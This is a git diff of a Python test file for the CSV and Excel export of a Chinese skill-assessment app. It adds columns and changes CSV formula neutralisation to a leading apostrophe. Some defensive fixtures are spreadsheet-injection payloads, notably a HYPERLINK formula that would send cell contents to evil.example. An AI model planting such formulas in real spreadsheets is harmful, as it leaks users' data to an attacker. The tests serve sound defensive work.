@@ -148,10 +148,13 @@ def test_only_admins_export_results(client, auth, demo, username, url):
 
 
 RESULT_HEADER = [
-    "评估编号", "所（站）代码", "所（站）名称", "状态", "开始日期", "定稿日期", "评估组", "评估组长",
-    "评估表", "评估表版本", "大项", "中项", "小项编号", "小项", "结果代码", "评估结果", "得分", "满分",
-    "扣分", "不适用", "发现的问题数", "其中有严重问题", "抽查试卷数", "有阅卷差错的试卷数", "备注",
-    "无照片原因", "评估总分",
+    "评估编号", "所（站）代码", "所（站）名称", "状态", "开始日期", "定稿日期",
+    "评估组", "评估组长", "评估表", "评估表版本", "评估组长签字人", "评估组长签字状态",
+    "评估组长签字时间", "所（站）代表签字人", "所（站）代表签字状态", "所（站）代表签字时间", "大项", "中项",
+    "小项编号", "小项", "结果代码", "评估结果", "得分", "满分",
+    "扣分", "不适用", "发现的问题数", "其中有严重问题", "抽查试卷数", "有阅卷差错的试卷数",
+    "备注", "无照片原因", "评估总分", "整改期限", "整改状态", "整改说明",
+    "整改答复人", "整改答复时间", "审核结果", "审核意见", "审核人", "审核时间",
 ]  # fmt: skip
 
 
@@ -173,9 +176,9 @@ def test_csv_has_a_bom_and_one_row_per_assessment_and_item_headed_in_chinese(cli
     response = client.get("/reports/results.csv")
     header = next(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
     assert header == RESULT_HEADER
-    rows = csv_rows(client)
+    rows = csv_rows(client, "?all=1")
     assert len(rows) == 61 * 2
-    deduction = next(r for r in rows if r["所（站）代码"] == '="BJ001"' and r["小项编号"] == '="5.3.1"')
+    deduction = next(r for r in rows if r["所（站）代码"] == "BJ001" and r["小项编号"] == "5.3.1")
     assert deduction["评估编号"] == str(demo.finalized)
     assert (deduction["所（站）名称"], deduction["状态"], deduction["评估组"]) == (
         "北京市第一职业技能鉴定所",
@@ -183,7 +186,7 @@ def test_csv_has_a_bom_and_one_row_per_assessment_and_item_headed_in_chinese(cli
         "王建国",
     )
     assert (deduction["大项"], deduction["中项"]) == ("5．考核鉴定场地要求", "5.3引导标识")
-    assert (deduction["结果代码"], deduction["评估结果"]) == ('="zero"', "发现问题")
+    assert (deduction["结果代码"], deduction["评估结果"]) == ("zero", "发现问题")
     assert (deduction["得分"], deduction["满分"], deduction["扣分"], deduction["不适用"]) == (
         "0",
         "1",
@@ -193,13 +196,13 @@ def test_csv_has_a_bom_and_one_row_per_assessment_and_item_headed_in_chinese(cli
     assert deduction["备注"] == "三楼考场引导标识褪色，无法辨认。"
     assert deduction["评估总分"] == "97"
     assert deduction["开始日期"] == deduction["定稿日期"] != ""
-    assert (deduction["评估表"], deduction["评估表版本"]) == ('="station-quality"', '="1"')
-    rate = next(r for r in rows if r["状态"] == "已定稿" and r["小项编号"] == '="6.5.1"')
+    assert (deduction["评估表"], deduction["评估表版本"]) == ("station-quality", "1")
+    rate = next(r for r in rows if r["状态"] == "已定稿" and r["小项编号"] == "6.5.1")
     assert (rate["抽查试卷数"], rate["有阅卷差错的试卷数"], rate["发现的问题数"]) == ("40", "2", "")
     assert rate["无照片原因"] == "试卷属保密材料，现场不允许拍照。"
-    not_applicable = next(r for r in rows if r["状态"] == "已定稿" and r["小项编号"] == '="6.3.2"')
+    not_applicable = next(r for r in rows if r["状态"] == "已定稿" and r["小项编号"] == "6.3.2")
     assert (not_applicable["不适用"], not_applicable["得分"]) == ("是", "3")
-    unscored = next(r for r in rows if r["状态"] == "进行中" and r["小项编号"] == '="9.2.1"')
+    unscored = next(r for r in rows if r["状态"] == "进行中" and r["小项编号"] == "9.2.1")
     assert (unscored["评估结果"], unscored["得分"], unscored["扣分"], unscored["定稿日期"]) == (
         "",
         "",
@@ -219,7 +222,7 @@ def test_two_assessments_of_one_station_on_one_day_are_told_apart(client, auth, 
         second = assessments.start_assessment(station, user).id
         db.session.commit()
     log_in(auth, "admin")
-    rows = [r for r in csv_rows(client, "?station=BJ001") if r["小项编号"] == '="1.1.1"']
+    rows = [r for r in csv_rows(client, "?station=BJ001&all=1") if r["小项编号"] == "1.1.1"]
     assert sorted(r["评估编号"] for r in rows) == sorted([str(demo.finalized), str(second)])
     assert len({(r["评估编号"], r["状态"], r["评估组"]) for r in rows}) == 2
 
@@ -246,34 +249,38 @@ def test_csv_keeps_codes_as_text_and_neutralises_formulas_without_changing_what_
     record_in_progress(app, *((item_id, "zero", None, note) for item_id, note in notes.items()))
     log_in(auth, "admin")
     rows = {r["小项编号"]: r for r in csv_rows(client, "?status=in_progress")}
-    assert set(rows) == {f'="{item.id}"' for item in FORM.items}
-    assert rows['="1.1.1"']["备注"] == '="=HYPERLINK(""http://evil.example/?""&A1,""点此"")"'
-    assert rows['="1.2.1"']["备注"] == '="-2+3 处问题"'
-    assert rows['="1.3.1"']["备注"] == '="@SUM(1)"'
-    assert rows['="1.4.1"']["备注"] == '="+86 010 6555 0001"'
-    assert rows['="1.5.1"']["备注"] == ""
-    long_note = rows['="1.5.2"']["备注"]
-    assert long_note == '="=' + "长" * 254 + '"&"' + "长" * 46 + '"', "string constants of 255 at most"
-    assert rows['="2.1.1"']["备注"] == ""
+    assert set(rows) == {item.id for item in FORM.items}
+    # OWASP's advice: a leading apostrophe, so the cell shows the text and never runs it.
+    assert rows["1.1.1"]["备注"] == "'" + '=HYPERLINK("http://evil.example/?"&A1,"点此")'
+    assert rows["1.2.1"]["备注"] == "'-2+3 处问题"
+    assert rows["1.3.1"]["备注"] == "'@SUM(1)"
+    assert rows["1.4.1"]["备注"] == "'+86 010 6555 0001"
+    assert rows["1.5.1"]["备注"] == ""
+    assert rows["1.5.2"]["备注"] == "'=" + "长" * 300
+    assert rows["2.1.1"]["备注"] == ""
 
 
 @pytest.mark.parametrize("text", ["\t制表符开头", "\r回车开头", '="1"'])
 def test_text_starting_with_a_tab_or_return_is_neutralised_too(text):
     from app.services.reports.export import csv_text
 
-    assert csv_text(text) == '="' + text.replace('"', '""') + '"'
+    assert csv_text(text) == "'" + text
 
 
 def test_xlsx_pivots_by_station_category_and_item_without_cleaning(client, auth, demo):
     import datetime
 
     log_in(auth, "admin")
-    book = xlsx_book(client)
-    results, totals = book.worksheets
-    assert (results.title, totals.title) == ("小项评估结果", "评估汇总")
+    from openpyxl.utils import get_column_letter
+
+    book = xlsx_book(client, "?all=1")
+    results, totals, deductions = book.worksheets
+    assert (results.title, totals.title, deductions.title) == ("小项评估结果", "评估汇总", "扣分项与整改")
     assert results.freeze_panes == "A2" and totals.freeze_panes == "A2"
-    assert results.auto_filter.ref == f"A1:AA{1 + 61 * 2}"
-    assert results.column_dimensions["N"].width == 40 and results.column_dimensions["M"].width == 9
+    assert results.auto_filter.ref == f"A1:{get_column_letter(len(RESULT_HEADER))}{1 + 61 * 2}"
+    item_text, item_code = (get_column_letter(RESULT_HEADER.index(name) + 1) for name in ("小项", "小项编号"))
+    assert results.column_dimensions[item_text].width == 40
+    assert results.column_dimensions[item_code].width == 9
     header, *rows = list(results.iter_rows(values_only=True))
     assert list(header) == RESULT_HEADER
     records = [dict(zip(header, row, strict=True)) for row in rows]
@@ -293,9 +300,9 @@ def test_xlsx_pivots_by_station_category_and_item_without_cleaning(client, auth,
     assert next(r for r in finalized if r["小项编号"] == "4.1.1")["评估结果"] == "发现1个问题"
 
     summary_header, *summary = list(totals.iter_rows(values_only=True))
-    assert summary_header[:10] == tuple(RESULT_HEADER[:10])
-    assert summary_header[10:13] == ("总分", "满分", "扣分")
-    assert summary_header[13:] == tuple(f"{c.code}．{c.title}" for c in FORM.categories)
+    assert summary_header[:16] == tuple(RESULT_HEADER[:16])
+    assert summary_header[16:19] == ("总分", "满分", "扣分")
+    assert summary_header[19:] == tuple(f"{c.code}．{c.title}" for c in FORM.categories)
     bj001 = next(dict(zip(summary_header, row, strict=True)) for row in summary if row[1] == "BJ001")
     assert (bj001["总分"], bj001["满分"], bj001["扣分"], bj001["4．设备设施"]) == (97, 100, 3, 4)
     assert sum(bj001[f"{c.code}．{c.title}"] for c in FORM.categories) == 97
@@ -306,7 +313,8 @@ def test_xlsx_keeps_formula_text_as_text(client, auth, app, demo):
     log_in(auth, "admin")
     results = xlsx_book(client, "?status=in_progress").worksheets[0]
     note_column = RESULT_HEADER.index("备注")
-    cell = next(row[note_column] for row in results.iter_rows(min_row=2) if row[12].value == "1.1.1")
+    code_column = RESULT_HEADER.index("小项编号")
+    cell = next(row[note_column] for row in results.iter_rows(min_row=2) if row[code_column].value == "1.1.1")
     assert (cell.value, cell.data_type, cell.quotePrefix) == (
         '=HYPERLINK("http://evil.example","点此")',
         "s",
@@ -317,7 +325,7 @@ def test_xlsx_keeps_formula_text_as_text(client, auth, app, demo):
 def test_export_filters_like_the_assessment_list(client, auth, demo):
     log_in(auth, "admin")
     rows = csv_rows(client, "?status=in_progress")
-    assert len(rows) == 61 and {r["所（站）代码"] for r in rows} == {'="SH002"'}
+    assert len(rows) == 61 and {r["所（站）代码"] for r in rows} == {"SH002"}
     assert csv_rows(client, "?start=2000-01-01&end=2000-12-31") == []
 
 
